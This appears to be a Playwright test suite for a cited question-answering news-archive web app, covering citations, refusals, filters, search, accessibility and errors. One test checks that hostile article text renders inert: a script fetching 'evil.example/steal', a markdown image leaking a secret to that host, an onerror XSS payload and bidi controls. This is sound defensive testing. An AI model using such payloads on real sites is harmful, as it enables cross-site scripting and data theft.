"""Journeys through the page: a real server, a real browser, the sample archive."""

from __future__ import annotations

import io
import re
from collections import Counter
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Error as PageError
from playwright.sync_api import Locator, Page, WebSocketRoute, expect

from ingest import ingest_paths
from tests.conftest import SAMPLES
from tests.page.browsing import ask, choose_view, open_page, send, serve
from tests.page.conftest import NewPage
from tests.page.model_server import LIE, serve_model
from vectorstore import Archive

TRADE = "What was the bilateral trade volume between China and Kyrgyzstan?"
UNHELD = "Who is the president of Uzbekistan?"

# Whether there comes a quarter of a second in which no script runs: then what the reader does is taken up at once.
REST = """app => new Promise(resolve => {
  let timer;
  const look = () => {
    clearTimeout(timer);
    if (app.dataset.testScriptState === "notRunning") timer = setTimeout(() => resolve(true), 250);
  };
  new MutationObserver(look).observe(app, { attributes: true });
  setTimeout(() => resolve(false), 30_000);
  look();
})"""


# ---- helpers


def background_of(element: Locator) -> tuple[int, int, int]:
    """The colour that most pixels of an element's box have on the screen."""
    pixels = Image.open(io.BytesIO(element.screenshot())).convert("RGB")
    return Counter(pixels.get_flattened_data()).most_common(1)[0][0]


def distance(one: tuple[int, int, int], other: tuple[int, int, int]) -> int:
    return sum(abs(a - b) for a, b in zip(one, other, strict=True))


def contrast(one: tuple[int, int, int], other: tuple[int, int, int]) -> float:
    """The contrast of WCAG 2.2, 1 to 21."""
    light, dark = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def _luminance(colour: tuple[int, int, int]) -> float:
    shares = [value / 255 for value in colour]
    linear = [s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4 for s in shares]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def colour_of(element: Locator) -> tuple[int, int, int]:
    """The colour of an element's text, as the browser computes it: `rgb(1, 2, 3)` or `color(srgb 0.1 0.2 0.3)`."""
    computed = element.evaluate("e => getComputedStyle(e).color")
    scale = 255 if computed.startswith("color(srgb") else 1
    red, green, blue = (round(float(value) * scale) for value in re.findall(r"[\d.]+", computed)[:3])
    return red, green, blue


def focused(page: Page) -> str:
    """The class of what has the focus, inside the component, too."""
    return page.evaluate(
        "() => { let e = document.activeElement; while (e?.shadowRoot?.activeElement) e = e.shadowRoot.activeElement;"
        " return e?.className ?? '' }"
    )


def open_mark(turn: Locator, number: int) -> Locator:
    """Press a mark; returns the source once it is there."""
    turn.locator(".mark", has_text=re.compile(f"^{number}$")).first.click()
    source = turn.page.locator(".source", has=turn.page.locator(".source-label .number", has_text=f"{number}"))
    source.wait_for()
    return source


# ---- asking and reading


def test_a_question_is_answered_with_statements_and_marks(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    turn = ask(page, TRADE)
    expect(turn.locator(".statements li").first).to_contain_text("22.71")
    assert turn.locator(".mark").count() >= 1
    expect(page.locator(".reader", has=turn).locator("[aria-live=polite]")).to_contain_text("22.71")


def test_the_short_answer_is_large(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "two passages")
    expect(turn.locator(".short")).to_have_text("Lanthorne")
    size = "e => parseFloat(getComputedStyle(e).fontSize)"
    assert turn.locator(".short").evaluate(size) >= 1.7 * turn.locator(".statements .said").first.evaluate(size)
    expect(page.locator(".reader", has=turn).locator("[aria-live=polite]")).to_contain_text("Answer: Lanthorne.")


def test_a_mark_opens_the_source_beside_the_chat_at_its_passage(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    turn = ask(page, TRADE)
    source = open_mark(turn, 1)
    lit = source.locator("mark.lit").first
    expect(lit).to_be_in_viewport()
    quoted, statement = lit.inner_text(), turn.locator(".statements .said").first.inner_text()
    assert re.sub(r" \[i\.e\. [^]]*\]", "", statement) == quoted
    chat, panel = turn.bounding_box(), source.bounding_box()
    assert chat and panel and panel["x"] >= chat["x"] + chat["width"]
    expect(source.locator(".source-title")).not_to_be_empty()
    expect(source.locator(".source-label")).not_to_be_empty()
    expect(source.locator(".facts")).to_contain_text("2025")


def test_the_lit_sentence_is_lit_on_the_screen(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    source = open_mark(ask(page, TRADE), 1)
    lit, plain = background_of(source.locator("mark.lit").first), background_of(source.locator(".source-title"))
    assert distance(lit, plain) > 80
    red, _, blue = lit
    assert red - blue > 60  # amber, and no shade of the page's own


def test_a_second_citation_lights_its_own_passage_and_marks_the_first_more_faintly(
    new_page: NewPage, stand_in_page: str
):
    page = new_page(stand_in_page)
    turn = ask(page, "two passages")
    source = open_mark(turn, 1)
    expect(source.locator("mark.lit")).to_have_text(re.compile("^The true capital"))
    source = open_mark(turn, 2)
    expect(source.locator("mark.lit")).to_have_text(re.compile("^We wondered"))
    expect(source.locator("mark.cited")).to_have_text(re.compile("^The true capital"))
    plain = background_of(source.locator(".source-title"))
    lit, faint = (background_of(source.locator(f"mark.{tone}").first) for tone in ("lit", "cited"))
    assert 15 < distance(faint, plain) < distance(lit, plain) / 2
    expect(turn.locator(".mark[aria-expanded=true]")).to_have_text("2")


def test_a_source_shows_its_facts_as_the_article_gives_them(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    source = open_mark(ask(page, "two passages"), 3)
    facts = source.locator(".facts")
    expect(facts).to_contain_text("20 Nov 2025, 07:35")  # the wire gives no zone, so none is shown
    expect(facts).not_to_contain_text("UTC")
    expect(facts).to_contain_text("BISHKEK, Nov. 19")
    expect(source.locator(".source-label")).to_contain_text("Northline")
    source = open_mark(page.locator("article.turn"), 1)
    expect(source.locator(".facts")).to_contain_text("7 Nov 2025, 10:00 UTC+01:00")
    expect(source.locator(".facts")).to_contain_text("Zeno Larkspur")
    link = source.get_by_role("link", name="Open the original")
    expect(link).to_have_attribute("href", "https://breadboard.example/software/note-for-the-robots")
    assert "noopener" in (link.get_attribute("rel") or "")


def test_what_we_inserted_is_told_apart_from_quoted_words(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "two passages")
    derived = turn.locator(".derived")
    expect(derived).to_have_text("[i.e. 27 October to 2 November 2025]")
    assert derived.evaluate("e => getComputedStyle(e).fontStyle") == "italic"
    size = "e => parseFloat(getComputedStyle(e).fontSize)"
    assert derived.evaluate(size) < turn.locator(".statements .said").first.evaluate(size)


def test_a_long_answer_begins_at_its_question_and_every_mark_opens(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    ask(page, "two passages")
    turn = ask(page, "long answer")
    expect(turn.locator(".question")).to_be_in_viewport()
    last = turn.locator(".statements .mark").last
    last.scroll_into_view_if_needed()
    last.click()
    expect(page.locator("mark.lit").first).to_be_in_viewport()
    expect(last).to_be_in_viewport()
    assert page.locator("mark.cited").count() > 3


def test_statements_are_shown_as_they_come(new_page: NewPage, stand_in_page: str, tmp_path: Path):
    page, gate = new_page(stand_in_page), tmp_path / "gate"
    turn = send(page, f"slow {gate}")
    for count in (1, 2, 3):
        gate.write_text("|" * count)
        expect(turn.locator(".statements li")).to_have_count(count)
        expect(turn).to_have_class(re.compile("pending"))
    gate.write_text("||||")
    expect(turn).to_have_class(re.compile("answered"))
    expect(turn.locator(".statements .mark")).to_have_count(3)


def test_the_page_can_be_used_while_an_answer_is_on_its_way_and_the_answer_stopped(
    new_page: NewPage, stand_in_page: str, tmp_path: Path
):
    page = new_page(stand_in_page)
    first = ask(page, "two passages")
    slow = send(page, f"slow {tmp_path / 'gate'}")
    expect(slow.get_by_role("button", name="Stop")).to_be_visible()
    expect(open_mark(first, 2).locator("mark.lit")).to_be_visible()
    last = send(page, "conflict please")
    slow.get_by_role("button", name="Stop").click()
    expect(slow).to_contain_text("You stopped this answer.")
    expect(last.locator("table.conflict")).to_be_visible()


def test_a_question_lost_on_its_way_to_the_server_is_sent_again_and_asked_once(new_page: NewPage, stand_in_page: str):
    lost: list[bytes | str] = []

    def lose_the_first(message: bytes | str, server: WebSocketRoute) -> None:
        if not lost and b"two passages" in (message if isinstance(message, bytes) else message.encode()):
            lost.append(message)
        else:
            server.send(message)

    def relay(route: WebSocketRoute) -> None:
        server = route.connect_to_server()
        route.on_message(lambda message: lose_the_first(message, server))

    page = new_page(stand_in_page, sockets=relay)
    expect(ask(page, "two passages").locator(".short")).to_have_text("Lanthorne")
    ask(page, "conflict please")
    assert lost
    expect(page.locator(".question")).to_have_text(["two passages", "conflict please"])


def test_what_was_typed_is_still_there_after_a_look_at_the_search(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    page.get_by_label("Ask the archive").fill("half a question")
    choose_view(page, "Search")
    page.get_by_label("Search the archive").wait_for()
    choose_view(page, "Ask")
    expect(page.get_by_label("Ask the archive")).to_have_value("half a question")


def test_outlets_that_differ_are_set_side_by_side_and_what_failed_is_folded_away(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "conflict please")
    table = turn.locator("table.conflict")
    expect(table.locator("caption")).to_contain_text("the number of dead")
    expect(table.locator("tbody tr")).to_have_text(
        [re.compile("Northline.*14 Aug 2025.*nine dead"), re.compile("The Skerrow Packet.*18 Aug 2025.*ten dead")]
    )
    expect(turn.get_by_text("The ferry was built in 1911.")).to_be_hidden()
    turn.get_by_text("Held back").click()
    expect(turn.get_by_text("The ferry was built in 1911.")).to_be_visible()
    expect(turn.locator(".unsupported li")).to_contain_text("the report says 1989, not 1911")
    table.get_by_role("button", name="Source 3").click()
    expect(page.locator(".source-title")).to_contain_text("strategic dialogue")


def test_an_answer_says_how_it_came_about_and_what_to_ask_next(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "conflict please")
    expect(turn.locator(".searched")).to_contain_text("Searched for: How many died when the ferry sank?")
    expect(turn.locator(".note")).to_have_text("Northline counted again four days later.")
    expect(turn.locator(".byline")).to_have_text(re.compile("^Written by a stand-in; .* · 1,234 tokens · \\$0.0005$"))
    turn.locator(".next").get_by_role("button", name="plan please").click()
    expect(page.locator("#turn-2.answered .chip.read")).to_contain_text("Radio Estmere")
    expect(turn.locator(".next")).to_have_count(0)


def test_no_script_runs_while_what_to_ask_next_is_looked_for(new_page: NewPage, stand_in_page: str, tmp_path: Path):
    page, gate = new_page(stand_in_page), tmp_path / "gate"
    turn = ask(page, f"wonder {gate}")
    assert page.get_by_test_id("stApp").evaluate(REST)
    expect(turn.locator(".next")).to_have_count(0)
    gate.write_text("|")
    expect(turn.locator(".suggestion")).to_have_text("two passages")


def test_what_to_ask_next_can_be_answered(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    ask(page, TRADE).locator(".suggestion").first.click()
    expect(page.locator("#turn-2.answered .mark").first).to_be_visible()


def test_a_quote_that_is_not_in_the_archive_is_not_shown(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "false quote")
    expect(turn.locator(".statements li")).to_have_count(2)
    expect(turn).to_contain_text("its source is no longer in the archive")
    expect(turn).not_to_contain_text("Lanthorne, and it was so")


def test_a_model_s_words_are_shown_as_they_pass_their_checks(new_page: NewPage, sample_archive: Archive):
    settings = {"DATELINE_MODEL": "scripted", "OPENAI_API_KEY": "sk-secret"}
    with serve_model() as model, serve(sample_archive.path, OPENAI_BASE_URL=model.url, **settings) as address:
        page = new_page(address)
        expect(page.locator(".archive .model")).to_contain_text(f"Model: scripted at {model.url[7:-3]}.")
        page.locator(".example:not(.waits)").first.wait_for()  # which are looked for without the model
        assert model.asked == []
        turn = send(page, TRADE)
        expect(turn.locator(".statements li")).to_contain_text("22.71")
        expect(turn).to_have_class(re.compile("pending"))
        model.goes_on.set()
        expect(turn.locator(".byline")).to_contain_text("Written by scripted")
        expect(turn.locator(".statements .mark")).to_have_count(1)
        expect(turn.locator(".statements")).not_to_contain_text(LIE)
        expect(turn.locator(".unsupported summary")).to_have_text("Held back (1)")
        assert len(model.asked) in (2, 3)  # the answer; what was held, once more; the judge where it is offered
        assert "sk-secret" not in page.content()


# ---- refusals, plans, filters


def test_a_refusal_looks_like_one(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    turn = ask(page, UNHELD)
    box = turn.locator(".box.refusal")
    expect(box.locator(".box-title")).to_have_text("Not in the archive")
    expect(box.locator(".covers summary")).to_contain_text("1 Aug 2025 to 30 Nov 2025")
    expect(box.locator(".covers .facts")).to_be_hidden()
    box.locator(".covers summary").click()
    expect(box.locator(".covers .facts")).to_contain_text("The Lanthorne Courier")
    expect(box.locator(".nearest h3")).to_contain_text("not an answer")
    assert turn.locator(".mark").count() == 0
    box.locator(".nearest button").first.click()
    expect(page.locator(".source .warning")).to_contain_text("not an answer")
    expect(page.locator(".source mark.found").first).to_be_in_viewport()


def test_an_outlet_that_is_not_held_is_named_and_its_chip_can_go(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    turn = ask(page, "What did the New York Times report about the flood in Brackwater?")
    expect(turn.locator(".reason")).to_contain_text("The archive holds nothing by")
    expect(turn.locator(".chip.missing")).to_contain_text("not held")
    turn.locator(".chip.missing button").click()
    expect(page.locator("#turn-1.answered .mark").first).to_be_visible()
    expect(page.locator("#turn-1 .chip.removed")).to_contain_text("not held")


def test_a_chip_read_from_the_question_is_removed_and_the_question_asked_again(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    turn = ask(page, "What did Radio Estmere report about the ferry on 12 August 2025?")
    expect(turn.locator(".chip.read")).to_have_text([re.compile("Outlet: Radio Estmere"), re.compile("12 Aug 2025")])
    turn.get_by_role("button", name="Ask again without: Outlet: Radio Estmere").click()
    expect(page.locator("#turn-1 .chip.removed")).to_have_text("Outlet: Radio Estmere")
    expect(page.locator("#turn-1 .chip.read")).to_have_text([re.compile("12 Aug 2025")])
    assert page.locator("article.turn").count() == 1


def test_what_was_given_up_is_said_and_can_be_let_go(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "plan please")
    expect(turn.locator(".chip.dropped")).to_contain_text("Given up: time (the archive holds nothing published then)")
    turn.locator(".chip.dropped button").click()
    expect(page.locator("#turn-1 .chip.dropped")).to_have_count(0)
    expect(page.locator("#turn-1 .chip.read")).to_contain_text("Radio Estmere")


def choose_outlet(page: Page, name: str) -> None:
    """Choose from the list of outlets; Streamlit closes it where it draws the page anew meanwhile."""
    for _ in range(6):
        page.get_by_label("Outlets").click()
        try:
            page.get_by_role("option", name=name).click(timeout=10_000)
        except PageError:
            page.keyboard.press("Escape")
        else:
            return
    raise AssertionError(f"{name} could not be chosen")


def test_filters_hold_for_the_answer_and_show_as_chips(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    page.get_by_text("Look in: all articles").click()
    choose_outlet(page, "Northline")
    page.keyboard.press("Escape")
    turn = ask(page, "How many people died when the ferry sank?")
    expect(turn.locator(".chip.asked")).to_contain_text("Only Northline")
    outlets = turn.locator(".sources .source-link .quiet, .nearest .meta").all_inner_texts()
    assert outlets and all(outlet.startswith("Northline") for outlet in outlets)
    turn.locator(".chip.asked button").click()
    expect(page.locator("#turn-1 .chip.removed")).to_have_text("Only Northline")


def test_dates_in_the_sidebar_filter_and_a_day_before_the_archive_is_refused_as_such(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    page.get_by_text("Look in: all articles").click()
    for label, digits in (("Published from", "20240101"), ("Published until", "20240131")):
        page.get_by_role("group", name=re.compile(label)).get_by_role("spinbutton").first.click()
        page.keyboard.type(digits)
    page.keyboard.press("Tab")
    turn = ask(page, "How many people died when the ferry sank?")
    expect(turn.locator(".chip.asked")).to_contain_text("Published 1 Jan 2024 to 31 Jan 2024")
    expect(turn.locator(".reason")).to_have_text("The archive holds nothing from that time.")


# ---- the search view


def test_the_search_view_lists_passages_and_opens_them(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    choose_view(page, "Search")
    field = page.get_by_label("Search the archive")
    field.fill("flood in Brackwater")
    field.press("Enter")
    results = page.locator(".found .listing > li")
    results.first.wait_for()
    assert results.count() >= 5
    expect(results.first).to_contain_text("score")
    expect(results.first.locator(".passage")).not_to_be_empty()
    results.nth(1).locator("button").first.click()
    expect(page.locator(".source mark.found").first).to_be_in_viewport()
    title = results.nth(1).locator(".headline").inner_text()
    expect(page.locator(".source-title")).to_have_text(title)


def test_the_chat_is_still_there_after_a_search(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    ask(page, "two passages")
    choose_view(page, "Search")
    page.get_by_label("Search the archive").wait_for()
    choose_view(page, "Ask")
    expect(page.locator("#turn-1 .short")).to_have_text("Lanthorne")
    source = open_mark(page.locator("#turn-1"), 2)
    expect(source.locator("mark.lit")).to_have_text(re.compile("^We wondered"))


# ---- hostile text


def test_scripts_markup_and_bidi_controls_of_an_article_are_only_text(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "attack me")
    expect(turn.locator(".statements")).to_contain_text('<script>fetch("http://evil.example/steal?c="')
    expect(turn.locator(".statements")).to_contain_text("![x](http://evil.example/p.png?q=secret)")
    source = open_mark(turn, 3)
    expect(source.locator(".text")).to_contain_text('<img src=x onerror="alert(1)">')
    expect(source.locator(".text .control")).to_have_text(["U+202E", "U+202C", "U+2066", "U+2069"])
    assert "\u202e" not in source.inner_text()
    for hostile in ("img", "script", "iframe", "a[href^='javascript:']"):
        assert page.locator(f".reader {hostile}").count() == 0
    expect(source.get_by_role("link")).to_have_count(1)
    last = turn.locator(".statements .mark").last.inner_text()
    expect(open_mark(turn, int(last)).locator(".source-title")).to_contain_text("<script>alert('title')</script>")


# ---- ways to use it


def test_all_of_it_works_from_the_keyboard(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "two passages")
    page.get_by_label("Ask the archive").focus()
    for _ in range(40):
        if focused(page).startswith("mark"):
            break
        page.keyboard.press("Shift+Tab")
    assert focused(page).startswith("mark")
    page.keyboard.press("Enter")
    expect(page.locator(".source")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator(".source")).to_have_count(0)
    expect(turn.locator(".mark").last).to_be_focused()
    expect(turn.locator(".mark[aria-expanded=true]")).to_have_count(0)


def test_on_a_phone_the_source_opens_below_the_answer(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    turn = ask(page, "two passages")
    source = open_mark(turn, 2)
    expect(source.locator("mark.lit")).to_be_in_viewport()
    assert turn.evaluate(
        "turn => turn.querySelector('.source').getBoundingClientRect().top"
        " >= turn.querySelector('.answer').getBoundingClientRect().bottom"
    )
    assert source.evaluate("e => e.getBoundingClientRect().width") <= 390
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.get_by_test_id("stMain").evaluate("e => e.scrollWidth <= e.clientWidth")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_in_light_and_dark(new_page: NewPage, stand_in_page: str, scheme: str):
    page = new_page(stand_in_page, color_scheme=scheme)
    source = open_mark(ask(page, "conflict please"), 2)
    shade = _luminance(background_of(source.locator(".source-title")))
    assert shade < 0.1 if scheme == "dark" else shade > 0.8
    for name in ("mark.lit", "mark.cited", ".source-title", ".facts dt", ".original a"):
        element = source.locator(name).first
        assert contrast(background_of(element), colour_of(element)) >= 4.5, name


def test_an_answer_is_copied_with_its_footnotes(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page, permissions=["clipboard-read", "clipboard-write"])
    turn = ask(page, "two passages")
    turn.get_by_role("button", name="Copy with footnotes").click()
    expect(turn.get_by_role("button", name="Copied")).to_be_visible()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "The true capital of Estmere is Lanthorne, and it was so before any of us could read. [1]" in copied
    assert "\n    “The true capital of Estmere is Lanthorne, and it was so before any of us could read.”\n" in copied
    assert "The Breadboard, 7 Nov 2025. https://breadboard.example/software/note-for-the-robots" in copied


def test_an_error_is_one_sentence_and_can_be_tried_again(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    turn = ask(page, "unknown to it")
    expect(turn.locator(".box.error")).to_contain_text("The stand-in knows no such question.")
    turn.get_by_role("button", name="Try again").click()
    expect(page.locator("#turn-1 .box.error")).to_be_visible()
    assert "Traceback" not in page.content()


def test_a_fault_of_ours_is_said_and_the_chat_goes_on(new_page: NewPage, stand_in_page: str):
    page = new_page(stand_in_page)
    expect(ask(page, "fault please").locator(".box.error")).to_contain_text("The server's log has the details")
    expect(ask(page, "two passages").locator(".short")).to_have_text("Lanthorne")


def test_the_examples_can_be_answered_and_the_archive_says_what_it_holds(new_page: NewPage, real_page: str):
    page = new_page(real_page)
    expect(page.locator(".example:not(.waits)")).to_have_count(4)
    held = page.locator(".archive")
    expect(held).to_contain_text("1 Aug 2025 to 30 Nov 2025")
    expect(held).to_contain_text(re.compile("Last read (today|yesterday)"))  # the tests may run over midnight
    expect(held).to_contain_text("No model: answers are sentences of the archive.")
    page.locator(".example:not(.waits)").first.click()
    page.locator("#turn-1.answered").wait_for()
    assert page.locator("#turn-1 .mark").count() >= 1


def test_without_an_archive_and_with_an_empty_one_the_page_says_how_to_fill_it(new_page: NewPage, empty_folder: Path):
    with serve(empty_folder) as address:
        page = new_page(address)
        expect(page.locator(".box-title")).to_have_text("There is no archive yet")
        expect(page.locator("pre")).to_contain_text("python -m ingest")
        with Archive.open(empty_folder):
            pass
        open_page(page, address)
        expect(page.locator(".box-title")).to_have_text("The archive is empty")
        with Archive.open(empty_folder) as archive:
            ingest_paths(archive, [SAMPLES / "wire" / "northline-2025-11-20-bishkek.txt"])
        open_page(page, address)
        expect(page.locator(".archive")).to_contain_text("1 article")
        expect(ask(page, "Who held the first strategic dialogue?").locator(".mark").first).to_be_visible()
